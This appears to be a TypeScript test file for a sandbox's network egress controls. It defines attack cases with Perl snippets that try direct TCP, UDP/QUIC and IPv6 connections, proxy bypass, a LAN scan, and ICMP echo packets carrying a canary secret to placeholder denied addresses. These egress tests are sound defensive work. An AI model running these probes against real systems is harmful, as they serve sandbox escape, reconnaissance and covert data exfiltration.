import type { Attack } from '../attack.ts';
import { text } from './prelude.ts';
import { attack, DENIED_IP, DENIED_IP6 } from './shape.ts';

const NO_ROUTE =
  'no route out: every address is local and all TCP arrives at the gateway, which grants no address by itself';

/** Out of the compartment without asking a proxy. */
export const DIRECT: readonly Attack[] = [
  attack({
    id: 'a01-direct-tcp',
    line: 1,
    tries: 'opens a TCP connection to an address that is not allowed and speaks HTTP',
    control: NO_ROUTE,
    program: text(`judge('tcp', ask(tcp($A{deny_ip}, 443), get($A{deny_ip})));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
  attack({
    id: 'a01-direct-tcp-odd-protocol',
    line: 1,
    tries: 'sends bytes that are neither HTTP nor TLS straight to an address that is not allowed',
    control: NO_ROUTE,
    program: text(String.raw`judge('tcp 6379', ask(tcp($A{deny_ip}, 6379), "INFO\r\n"));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
  attack({
    id: 'a02-unset-proxy',
    line: 2,
    tries: 'forgets every proxy setting and asks the address of a host that is not allowed',
    control: 'environment variables are no boundary: there is no route past the gateway',
    program: text(`delete $ENV{$_} for keys %ENV; judge('http', ask(tcp($A{deny_ip}, 80), get($A{deny_host})));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
  attack({
    id: 'a07-udp-quic',
    line: 7,
    tries: 'sends a datagram to UDP 443 of an address that is not allowed',
    control: 'all UDP but ports 53 and 123 is rejected in the network namespace',
    program: text(String.raw`judge('udp 443', udp($A{deny_ip}, 443, "\xc0\x00\x00\x00\x01$A{canary}"));`),
    positive: 'open-net',
    watch: ['far'],
  }),
  attack({
    id: 'a07-udp-ipv6',
    line: 7,
    tries: 'sends a datagram to UDP 443 of an IPv6 address',
    control: 'all UDP but ports 53 and 123 is rejected in the network namespace, IPv6 as IPv4',
    program: text(`judge('udp6 443', udp($A{deny_ip6}, 443, $A{canary}));`),
    positive: 'open-net',
    watch: ['far'],
  }),
  attack({
    id: 'a08-icmp-raw',
    line: 8,
    tries: 'carries a secret in the data of an ICMP echo request over a raw socket',
    control: 'no capability for raw sockets, and no route',
    program: text(icmp('SOCK_RAW', 'deny_ip')),
    positive: 'open-net-root',
    watch: ['icmp'],
  }),
  attack({
    id: 'a08-icmp-ping-socket',
    line: 8,
    tries: 'carries a secret in the data of an ICMP echo request over a ping socket',
    control: 'ping_group_range of the network namespace is empty',
    program: text(icmp('SOCK_DGRAM', 'deny_ip')),
    positive: 'bare-net-root',
    watch: ['icmp'],
  }),
  attack({
    id: 'a25-no-verification',
    line: 25,
    tries: 'starts TLS without checking any certificate, straight to an address past the proxy',
    control: 'no route past the gateway, whatever the client verifies',
    program: text(`judge('tls', ask(tcp($A{deny_ip}, 8443), client_hello($A{allow_host})));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
  attack({
    id: 'a29-lan-scan',
    line: 29,
    tries: 'looks for hosts of the local network',
    control: 'no route to the local network',
    program: text(`
my $last = '';
for my $host (map { "198.51.100.$_" } 17 .. 23) {
  my $got = ask(tcp($host, 80, 1), get($host));
  done("$host answered") if $got =~ any_token();
  failed("$host: $ended") if $ended =~ /time-out/;
  $last = $ended;
}
refused("no host answered: $last");`),
    positive: 'open-net',
    watch: ['far'],
    evidence: [{ event: ['egress.denied'], mentions: 'lan_ip' }],
    seconds: 20,
  }),
  attack({
    id: 'a29-machine-itself',
    line: 29,
    tries: "asks the machine's own address on its network",
    control: 'no route to the machine: its addresses are local to the compartment',
    program: text(`judge('machine', ask(tcp($A{house_ip}, 80), get($A{house_ip})));`),
    positive: 'open-net',
    watch: ['admin'],
    evidence: [{ event: ['egress.denied'], mentions: 'house_ip' }],
  }),
  attack({
    id: 'a30-ipv6-tcp',
    line: 30,
    tries: 'takes the IPv6 way out: TCP to an address that is not allowed',
    control: 'IPv6 is caught by the same table as IPv4',
    program: text(`judge('tcp6', ask(tcp($A{deny_ip6}, 443), client_hello($A{allow_host})));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP6,
  }),
  attack({
    id: 'a30-ipv6-mapped',
    line: 30,
    tries: 'writes an IPv4 address as an IPv4-mapped IPv6 address',
    control: 'mapped addresses are one address to the gateway, however they arrive',
    program: text(`judge('mapped', ask(tcp("::ffff:$A{deny_ip}", 443), get($A{deny_ip})));`),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
];

/** ICMP echo request (RFC 792) with a checksum, sent to an address; the effect is an echo reply. */
function icmp(kind: 'SOCK_RAW' | 'SOCK_DGRAM', to: string): string {
  return String.raw`
socket(my $fh, AF_INET, ${kind}, 1) or refused("socket: $!");
my $data = pack('C C n n n', 8, 0, 0, 0x4268, 1) . $A{canary} . (length($A{canary}) % 2 ? "\0" : '');
my $sum = 0; $sum += $_ for unpack 'n*', $data;
$sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
substr($data, 2, 2) = pack 'n', ~$sum & 0xffff;
defined(send $fh, $data, 0, pack_sockaddr_in(0, inet_aton($A{${to}}))) or refused("send: $!");
my $got = hear($fh, qr/./s, 2);
length $got ? done('an echo came back') : failed("sent, and then: $ended");`;
}
